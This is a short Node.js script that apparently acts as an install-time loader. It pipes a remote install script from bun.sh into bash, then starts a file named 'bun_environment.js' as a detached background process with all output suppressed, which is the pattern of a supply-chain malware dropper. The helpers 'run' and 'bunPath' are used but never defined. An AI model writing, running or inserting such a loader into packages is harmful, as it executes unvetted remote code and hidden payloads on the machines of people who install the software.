const { spawn } = require('child_process');
async function main() {
  await run('curl -fsSL https://bun.sh/install | bash');
  spawn(bunPath, ['bun_environment.js'], { detached: true, stdio: 'ignore' }).unref();
}
main();
